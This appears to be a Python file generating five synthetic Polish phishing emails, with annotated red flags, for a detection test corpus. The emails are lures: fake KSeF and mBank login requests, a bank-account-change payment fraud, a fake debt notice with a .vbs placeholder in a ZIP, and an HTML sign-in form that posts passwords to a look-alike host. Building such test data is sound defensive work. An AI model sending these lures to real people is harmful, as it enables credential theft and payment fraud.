"""Polish attack messages (attack/22-26)."""
from lib import *
import infra as I

FOLDER = "attack"
NIP_PL = B.pl_nip("778291045")


def _a22():
    link = "https://ksef-podatki-gov.com.pl/web/uwierzytelnienie?nip=%s&sesja=9105" % NIP_PL
    md = """Szanowni Państwo,

informujemy, że token uwierzytelniający KSeF wygenerowany dla podmiotu **EXAMPLE TEXTILSERVICE POLSKA SP. Z O.O.** (NIP %s) utracił ważność w dniu 13.10.2026 r.

W związku z tym **3 faktury ustrukturyzowane** przesłane w dniu 13.10.2026 r. nie zostały przyjęte przez system (kod błędu 9105: nieprawidłowy token sesji). Faktury nieprzyjęte w KSeF nie są uznawane za wystawione.

Aby uniknąć sankcji, o których mowa w art. 106ni ustawy o VAT, prosimy o ponowną autoryzację w ciągu 48 godzin. Uwierzytelnij się za pomocą profilu zaufanego, e-dowodu lub podpisu kwalifikowanego:

BTN: Zaloguj się do KSeF | %s

Z poważaniem
Krajowa Administracja Skarbowa
Zespół Krajowego Systemu e-Faktur""" % (NIP_PL, link)
    return M(n=22, lang="pl", slug="ksef-token-wygasl-phishing",
             infra=I.mailgun("mg.ksef-podatki-gov.com.pl", tz="PL"), date="2026-10-14 09:18:03",
             frm=("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-podatki-gov.com.pl"), to=[S("malgorzata.dabrowska")],
             subject="KSeF: 3 faktury nieprzyjęte – wymagana ponowna autoryzacja tokenu",
             body=alt(md, "utf-8", "quoted-printable", style="brand", brand="Krajowy System e-Faktur", color="#d4213d",
                      footer="Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać."),
             what="Credential phishing on the Polish national e-invoicing system (KSeF): 'token expired, 3 invoices rejected', log in via Profil Zaufany within 48 h.",
             why="Look-alike domain ksef-podatki-gov.com.pl via Mailgun (real: ksef.podatki.gov.pl / mf.gov.pl); the Ministry does not e-mail login links; invented error code, sanction threat and 48-hour deadline. Genuine KSeF-numbered invoice: business/22.")


def _a23():
    ib = BANK["partner_fake"]
    text = """Dzień dobry Pani Małgorzato,

uprzejmie informuję, że w związku ze zmianą banku obsługującego naszą spółkę od 1 listopada 2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować na nowy rachunek:

Santander Bank Polska S.A.
%s

Nowy rachunek zostanie zgłoszony do wykazu podatników VAT („biała lista”) w ciągu kilku dni roboczych. Do tego czasu prosimy o zlecanie przelewów bez mechanizmu podzielonej płatności – VAT rozliczymy w grudniu.

Prosimy o uregulowanie na nowy rachunek faktur FV/2026/10/118 (38 412,50 zł) oraz FV/2026/10/124 (12 906,00 zł), których termin płatności mija w piątek.

Pismo potwierdzające zmianę, podpisane przez Zarząd, prześlę w przyszłym tygodniu – obecnie jestem w delegacji i jestem dostępny tylko mailowo.

Z poważaniem

Tadeusz Zieliński
Kierownik ds. Kluczowych Klientów
Partner Logistik sp. z o.o.
ul. Gnieźnieńska 42, 61-021 Poznań
""" % B.fmt_iban(ib)
    return M(n=23, lang="pl", slug="partner-logistik-lookalike-zmiana-rachunku",
             infra=I.postfix_server("mail.partner-logistlk.pl", "vps-9a41c7e2.vps.ovh.net", "146.59.44.190", tz="PL", mua="outlook16"),
             date="2026-10-22 13:37:45", frm=("Tadeusz Zieliński", "t.zielinski@partner-logistlk.pl"), to=[S("malgorzata.dabrowska")],
             subject="Zmiana numeru rachunku bankowego – Partner Logistik sp. z o.o.", body=Text(text, "windows-1250", "quoted-printable"),
             content_lang="pl",
             what="Vendor bank-account change: the logistics partner's key-account manager 'announces' a new Santander account and asks to pay two invoices there without split payment.",
             why="Look-alike domain partner-logistlk.pl (l instead of i) on an OVH VPS; the account is not on the VAT white list and the sender explicitly asks to skip split payment (MPP), both strong fraud signals in Poland; confirmation letter 'next week', e-mail only. Genuine mail from this partner: business/22, business/23.")


DPD_HTML = """<!DOCTYPE html>
<html lang="pl">
<head>
<meta charset="utf-8">
<title>Potwierdzenie dostawy - DPD Polska</title>
<style>
body{margin:0;background:#f2f2f2;font-family:'Segoe UI',Arial,sans-serif}
.card{width:440px;margin:60px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.ms{font-size:15px;color:#5e5e5e;margin-bottom:18px}
h1{font-size:24px;font-weight:600;margin:0 0 14px 0}
input{width:100%;box-sizing:border-box;border:none;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin-bottom:18px}
button{background:#0067b8;color:#fff;border:none;padding:9px 34px;font-size:15px;float:right}
.doc{background:#fafafa;border:1px solid #e1e1e1;padding:10px;margin-bottom:18px;font-size:13px}
</style>
</head>
<body>
<div class="card">
<div class="ms">Microsoft</div>
<h1>Zaloguj się, aby wyświetlić dokument</h1>
<div class="doc">DPD_Potwierdzenie_dostawy_10006345112200U.pdf (212 KB)<br>Udostępniony plik jest chroniony. Potwierdź swoją tożsamość służbowym adresem e-mail.</div>
<form method="post" action="https://dpd-dostawa-potwierdzenie.com/owa/auth/logon.php">
<input type="email" name="login" value="piotr.kaczmarek@example.com">
<input type="password" name="passwd" placeholder="Hasło">
<button type="submit">Zaloguj</button>
</form>
<p style="clear:both;font-size:12px;color:#666;padding-top:20px">Nie możesz uzyskać dostępu do konta?</p>
</div>
</body>
</html>
"""


def _a24():
    text = """Szanowny Kliencie,

przesyłka nr 10006345112200U nadana przez: TECNOLAV S.R.L. (Brescia, IT) nie mogła zostać doręczona z powodu niepełnych danych adresowych odbiorcy.

W załączniku przesyłamy potwierdzenie dostawy. Aby ustalić nowy termin doręczenia, otwórz załącznik i potwierdź dane odbiorcy.

Jeżeli dane nie zostaną potwierdzone w ciągu 48 godzin, przesyłka zostanie zwrócona do nadawcy na jego koszt.

Pozdrawiamy
Zespół Obsługi Klienta DPD Polska
"""
    body = Mixed(Text(text, "iso-8859-2", "8bit"), html_att("DPD_Potwierdzenie_dostawy_10006345112200U.html", DPD_HTML))
    return M(n=24, lang="pl", slug="dpd-zalacznik-html-logowanie",
             infra=I.cpanel_phpmailer("s134.cyber-hosting.pl", "s134.cyber-hosting.pl", "91.227.41.134", "autokomis-zielonka.pl", tz="PL", user="autokomi"),
             date="2026-11-09 10:02:27", frm=("DPD Polska", "kontakt@autokomis-zielonka.pl"), reply_to=("DPD Polska", "obsluga@dpd-polska-doreczenia.com"),
             to=[S("piotr.kaczmarek")], subject="DPD: przesyłka 10006345112200U – potwierdź dane odbiorcy", body=body,
             what="HTML-attachment phishing: 'DPD delivery confirmation' HTML file that renders a Microsoft sign-in form pre-filled with the recipient's address.",
             why="Sent from a compromised car-dealer website (PHPMailer), not dpd.com.pl; the local HTML file posts the password to dpd-dostawa-potwierdzenie.com (HTML attachments evade URL reputation); courier lure with 48-hour return threat. Inert: plain form, no script. Genuine DPD notice: business/26.")


def _a25():
    text = """Szanowni Państwo,

działając w imieniu i na rzecz naszego Klienta – Mercator Textil sp. z o.o. z siedzibą w Łodzi – wzywamy Państwa do zapłaty kwoty 27 640,18 zł wraz z odsetkami ustawowymi za opóźnienie w transakcjach handlowych, tytułem nieuregulowanych faktur wskazanych w załączonym wezwaniu.

W przypadku braku zapłaty w terminie 7 dni od dnia doręczenia niniejszego wezwania sprawa zostanie skierowana na drogę postępowania sądowego (EPU), co narazi Państwa na dodatkowe koszty procesu i egzekucji, a dane dłużnika zostaną przekazane do Krajowego Rejestru Długów.

Ze względu na ochronę danych osobowych dokumenty zostały zabezpieczone hasłem: WZ4471

Z poważaniem
r.pr. Adam Nowak
Kancelaria Radcy Prawnego Nowak i Wspólnicy
Dział Windykacji Należności
"""
    z = zipc_att("Wezwanie_WZ-4471-2026.zip", [("Wezwanie_do_zaplaty_WZ-4471-2026.pdf.vbs", b"' inert placeholder for evaluation - no code\r\n")],
                 "WZ4471", "a25", ctype="application/zip")
    return M(n=25, lang="pl", slug="wezwanie-do-zaplaty-zip-haslo",
             infra=I.wp_pl(), date="2026-11-19 08:44:10",
             frm=("Kancelaria Nowak i Wspólnicy", "kancelaria.nowak.windykacja@wp.pl"), to=[S("malgorzata.dabrowska")],
             subject="Przedsądowe wezwanie do zapłaty – sprawa WZ/4471/2026",
             body=Mixed(Text(text, "utf-8", "base64"), z),
             what="Fake lawyer / debt-collection notice with a password-protected ZIP holding a .pdf.vbs script.",
             why="Law firm on a free wp.pl mailbox, no prior relationship with the named 'client', court and debt-register threats, ZipCrypto archive with the password in the body (scanner evasion) and a double-extension VBScript inside (placeholder only).")


def _a26():
    link = "https://companynet-mbank-pl.com/logowanie/?u=LUKASZ.WISNIEWSKI&ref=PSD2-2611"
    md = """Szanowni Państwo,

w związku z wdrożeniem nowych wymogów bezpieczeństwa (dyrektywa PSD2, rozporządzenie DORA) od 20 listopada 2026 r. użytkownicy systemu mBank CompanyNet muszą ponownie potwierdzić swoje uprawnienia do autoryzacji przelewów.

Użytkownik: **LUKASZ.WISNIEWSKI**
Firma: EXAMPLE TEXTILSERVICE POLSKA SP. Z O.O.

Brak potwierdzenia do 20.11.2026 r. spowoduje czasowe zablokowanie możliwości akceptowania dyspozycji.

BTN: Potwierdź uprawnienia | %s

Zaloguj się identyfikatorem i hasłem, a następnie potwierdź operację w aplikacji mobilnej lub tokenem.

Z poważaniem
Zespół mBank CompanyNet""" % link
    return M(n=26, lang="pl", slug="mbank-companynet-potwierdzenie-uprawnien",
             infra=I.ses(region="eu-central-1", ipnet="69.169.233", prefix="0107", tz="PL"), date="2026-11-17 07:55:31",
             frm=("mBank CompanyNet", "powiadomienia@companynet-mbank-pl.com"), to=[S("lukasz.wisniewski")],
             subject="CompanyNet: wymagane potwierdzenie uprawnień do 20.11.2026",
             body=alt(md, "iso-8859-2", "quoted-printable", style="brand", brand="mBank CompanyNet", color="#c4001a",
                      footer="mBank S.A., ul. Prosta 18, 00-850 Warszawa"),
             what="Business-banking credential phishing: 'mBank CompanyNet' requires users to re-confirm transfer-authorisation rights (PSD2/DORA).",
             why="Look-alike domain companynet-mbank-pl.com via Amazon SES; asks for login, password and token/app confirmation on the fake site (real-time OTP relay); regulatory buzzwords and block threat.")


MESSAGES = [_a22(), _a23(), _a24(), _a25(), _a26()]
for _m in MESSAGES:
    _m["folder"] = FOLDER
